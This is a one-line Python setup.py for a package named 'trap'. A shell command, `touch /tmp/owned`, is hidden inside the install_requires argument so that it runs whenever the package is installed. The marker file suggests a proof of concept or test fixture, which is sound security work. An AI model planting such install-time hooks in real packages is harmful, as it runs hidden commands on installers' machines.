setup(name='trap', install_requires=__import__('os').system('touch /tmp/owned') or [])
